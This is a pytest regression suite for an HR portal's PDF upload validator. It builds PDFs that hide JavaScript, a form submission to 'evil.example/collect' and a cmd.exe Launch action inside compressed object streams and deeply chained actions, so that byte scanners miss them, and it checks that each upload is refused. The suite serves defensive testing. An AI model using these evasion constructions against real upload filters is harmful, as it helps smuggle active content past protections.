"""PDF upload validation against action chains and forms hidden in compressed object streams.

Regression tests for the review finding "a PDF with JavaScript passes upload validation": the parsed-object
walk stopped at depth 8, so a Link annotation whose /A action had more than 8 /Next actions before a
/JavaScript action, inside a compressed object stream (invisible to the raw-byte scan), was accepted.
The PDFs are built by hand here, byte for byte, so the test controls exactly what is compressed.
"""

import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hrportal.audit.models import Action, AuditEvent
from hrportal.documents import validation
from hrportal.documents.models import Document
from hrportal.tenancy import company_scope
from tests.factories import make_document_employee

JAVASCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
GOTO = "<< /S /GoTo /D [3 0 R /Fit] >>"


def nested_chain(depth: int, last: str) -> str:
    """An action with `depth` /GoTo actions chained by direct /Next dictionaries, then `last`."""
    action = last
    for _ in range(depth):
        action = f"<< /S /GoTo /D [3 0 R /Fit] /Next {action} >>"
    return action


def build_pdf(
    compressed: dict[int, str],
    annotation_action: str | None = None,
    extra_page: str = "",
    before_xref: bytes = b"",
) -> bytes:
    """A one-page PDF 1.5 with a cross-reference stream; the objects in `compressed` (number -> source)
    go into one FlateDecode object stream, so their names never appear in the raw bytes.

    Object 4 is the page's Link annotation; its /A is `annotation_action` (or, if None, object 4 must be
    among `compressed`)."""
    if annotation_action is not None:
        compressed = {
            4: f"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A {annotation_action} >>",
            **compressed,
        }
    plain = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] {extra_page}>>",
    }
    stream_number = max([*plain, *compressed]) + 1
    xref_number = stream_number + 1
    # The object stream: "number offset ..." pairs, then the objects.
    bodies, header, offset = [], [], 0
    for number, source in compressed.items():
        data = source.encode("latin-1") + b"\n"
        header.append(f"{number} {offset}")
        bodies.append(data)
        offset += len(data)
    head = (" ".join(header) + "\n").encode()
    stream_data = zlib.compress(head + b"".join(bodies))

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, source in plain.items():
        offsets[number] = len(out)
        out += f"{number} 0 obj\n{source}\nendobj\n".encode("latin-1")
    offsets[stream_number] = len(out)
    out += (
        f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(compressed)} /First {len(head)} "
        f"/Filter /FlateDecode /Length {len(stream_data)} >>\nstream\n"
    ).encode()
    out += stream_data + b"\nendstream\nendobj\n"
    out += before_xref

    size = xref_number + 1
    rows = []
    index_in_stream = {number: i for i, number in enumerate(compressed)}
    for number in range(size):
        if number == 0:
            rows.append((0, 0, 65535))
        elif number in index_in_stream:
            rows.append((2, stream_number, index_in_stream[number]))
        elif number == xref_number:
            rows.append((1, len(out), 0))
        elif number in offsets:
            rows.append((1, offsets[number], 0))
        else:
            rows.append((0, 0, 0))
    xref_data = zlib.compress(
        b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows)
    )
    xref_offset = len(out)
    out += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {size} /W [1 4 2] /Root 1 0 R "
        f"/Filter /FlateDecode /Length {len(xref_data)} >>\nstream\n"
    ).encode()
    out += xref_data + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
    return bytes(out)


def indirect_chain(depth: int, last: str, *, cycle: bool = False) -> dict[int, str]:
    """Annotation 4 -> action 10 -> /Next 11 -> ... -> /Next (10 + depth) = `last`, all compressed.
    With `cycle`, the last GoTo's /Next points back to the first action instead of to `last`."""
    objects = {4: "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 10 0 R >>"}
    for i in range(depth):
        following = "10 0 R" if cycle and i == depth - 1 else f"{11 + i} 0 R"
        objects[10 + i] = f"<< /S /GoTo /D [3 0 R /Fit] /Next {following} >>"
    if not cycle:
        objects[10 + depth] = last
    return objects


def check(content: bytes):
    return validation.check_upload(SimpleUploadedFile("a.pdf", content))


def refused_reason(content: bytes) -> str:
    with pytest.raises(validation.RejectedUpload) as excinfo:
        check(content)
    return excinfo.value.reason


# --- the reported case and its variations ---------------------------------------------------------------


@pytest.mark.parametrize("depth", [0, 5, 8, 9, 10, 50, 200])
def test_javascript_at_the_end_of_a_nested_next_chain_in_an_object_stream_is_refused(depth):
    content = build_pdf({}, annotation_action=nested_chain(depth, JAVASCRIPT))
    assert b"JavaScript" not in content and b"/JS" not in content  # only the parser can see it
    assert refused_reason(content) == "pdf_active_content"


@pytest.mark.parametrize("depth", [5, 10, 50, 200])
def test_the_same_chain_ending_in_a_goto_is_accepted(depth):
    """The control: the generated PDFs are valid, so the refusals above are for the JavaScript."""
    result = check(build_pdf({}, annotation_action=nested_chain(depth, GOTO)))
    assert result.content_type == validation.PDF


@pytest.mark.parametrize("depth", [5, 10, 50, 2000])
def test_javascript_at_the_end_of_an_indirect_chain_of_compressed_actions_is_refused(depth):
    content = build_pdf(indirect_chain(depth, JAVASCRIPT))
    assert b"JavaScript" not in content
    assert refused_reason(content) == "pdf_active_content"


def test_a_cyclic_next_chain_ends_and_is_accepted():
    result = check(build_pdf(indirect_chain(20, JAVASCRIPT, cycle=True)))
    assert result.content_type == validation.PDF


def test_a_cycle_does_not_hide_javascript_reachable_from_it():
    objects = indirect_chain(20, JAVASCRIPT, cycle=True)
    objects[10] = "<< /S /GoTo /D [3 0 R /Fit] /Next [11 0 R 99 0 R] >>"
    objects[99] = JAVASCRIPT
    assert refused_reason(build_pdf(objects)) == "pdf_active_content"


@pytest.mark.parametrize(
    "action",
    [
        "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
        "<< /S /ImportData /F (data.fdf) >>",
        "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
        "<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /S /RichMediaExecute /TA << /Type /Annot /Subtype /RichMedia >> >>",
        "<< /S /GoTo /D [3 0 R /Fit] /AA << /E 10 0 R >> >>",
    ],
    ids=["SubmitForm", "ImportData", "GoToR", "GoToE", "Launch", "RichMedia", "AA"],
)
@pytest.mark.parametrize("depth", [0, 12])
def test_other_active_actions_are_refused_compressed(action, depth):
    content = build_pdf({}, annotation_action=nested_chain(depth, action))
    assert refused_reason(content) == "pdf_active_content"


@pytest.mark.parametrize(
    "marker",
    [
        b"/AcroForm << /XFA 5 0 R >>",
        b"/A << /S /SubmitForm >>",
        b"/A << /S /ImportData >>",
        b"/A << /S /GoToR /F (x.pdf) >>",
        b"/A << /S /GoToE >>",
        b"/A << /S /Go#54oR >>",  # #xx escaped: /GoToR
    ],
)
def test_other_active_actions_are_refused_uncompressed(marker):
    from tests.factories import sample_pdf_bytes

    content = sample_pdf_bytes().replace(b"/Type /Catalog", b"/Type /Catalog " + marker, 1)
    assert refused_reason(content) == "pdf_active_content"


def test_exceeding_the_node_budget_refuses(monkeypatch):
    content = build_pdf({}, annotation_action=nested_chain(100, GOTO))
    monkeypatch.setattr(validation.pdf, "MAX_PDF_NODES", 50)
    assert refused_reason(content) == "pdf_too_complex"
    monkeypatch.setattr(validation.pdf, "MAX_PDF_NODES", 100_000)
    assert check(content).content_type == validation.PDF


@pytest.mark.parametrize("depth", [400, 500, 1000, 5000])
def test_nesting_deep_enough_to_defeat_the_parser_still_finds_the_javascript(depth):
    """pypdf, reading leniently, gives up a few hundred levels down and carries on without the rest: the
    decompressed object stream is scanned as well, so what the parser drops is still seen."""
    content = build_pdf({}, annotation_action=nested_chain(depth, JAVASCRIPT))
    assert refused_reason(content) == "pdf_active_content"


def test_an_object_stream_the_parser_does_not_know_of_is_refused():
    """An object stream left out of the cross-reference stream (a viewer rebuilding a damaged file may
    still find it) cannot be checked: refused."""
    hidden_objects = b"4 0 " + JAVASCRIPT.encode() + b"\n"
    data = zlib.compress(hidden_objects)
    hidden = (
        f"50 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(data)} >>\n".encode()
        + b"stream\n"
        + data
        + b"\nendstream\nendobj\n"
    )
    content = build_pdf({}, annotation_action=GOTO, before_xref=hidden)
    assert check(build_pdf({}, annotation_action=GOTO)).content_type == validation.PDF
    assert refused_reason(content) == "pdf_unreadable"


# --- through the upload view: refused, audited, nothing stored ------------------------------------------


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"
    return tmp_path / "private"


@pytest.mark.django_db
@pytest.mark.parametrize("depth", [5, 10, 50])
@pytest.mark.parametrize("chain", ["nested", "indirect"])
def test_upload_of_a_hidden_javascript_chain_is_refused_audited_and_stores_nothing(
    admin_client, company, private_storage, depth, chain
):
    employee = make_document_employee(company)
    if chain == "nested":
        content = build_pdf({}, annotation_action=nested_chain(depth, JAVASCRIPT))
    else:
        content = build_pdf(indirect_chain(depth, JAVASCRIPT))
    response = admin_client.post(
        f"/portal/employees/{employee.pk}/documents/upload/",
        {
            "file": SimpleUploadedFile("advarsel.pdf", content, content_type="application/pdf"),
            "kind": "warning",
            "title": "Advarsel",
            "document_date": "2024-02-01",
        },
    )
    assert response.status_code == 400
    with company_scope(company):
        assert not Document.objects.exists()
    stored = [p for p in private_storage.rglob("*") if p.is_file()] if private_storage.exists() else []
    assert stored == []
    event = AuditEvent.objects.get(company_id=company.pk, action=Action.DOCUMENT_UPLOAD_REJECTED)
    assert event.details["reason"] == "pdf_active_content"
